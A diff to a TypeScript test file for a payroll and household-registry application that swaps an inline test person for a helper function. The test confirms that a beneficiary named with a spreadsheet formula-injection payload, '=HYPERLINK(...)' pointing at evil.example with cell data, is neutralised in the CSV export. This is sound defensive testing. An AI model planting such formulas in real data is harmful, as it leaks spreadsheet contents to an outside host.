@@ -8,6 +8,7 @@ import { bankBatchCsv } from '../payments/export.ts';
 import { FULL } from '../registry/presenters.ts';
 import { reportCsv, type ImportReport } from '../registry/import.ts';
 import type { PayrollLineRow } from '../payments/store.ts';
+import { registryMember } from '../../test/helpers/registry.ts';
 
 const rowsOf = (csv: string) => parse(csv, { bom: true }) as string[][];
 
@@ -90,21 +91,7 @@ test('over HTTP: a beneficiary named =HYPERLINK(...) is neutralised in the payro
     const headers = await sessionHeaders(t.db, officerId);
     const commune = (await reg.communeByCode(t.db.k, '03439'))!;
     const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")';
-    const person = {
-      personalId: null,
-      fullName: evil,
-      dateOfBirth: '1938-01-01',
-      sex: 'M',
-      ethnicCode: '35',
-      relation: 'head',
-      disability: 'none',
-      pension: false,
-      socialInsurance: 'none',
-      healthInsurance: true,
-      schooling: 'none',
-      conditions: [],
-      merit: false,
-    } as unknown as Parameters<typeof reg.registerHousehold>[3][number];
+    const person = registryMember({ fullName: evil, dateOfBirth: '1938-01-01' }) as unknown as Parameters<typeof reg.registerHousehold>[3][number];
     const home = {
       code: 'CSV-1',
       villageId: null,
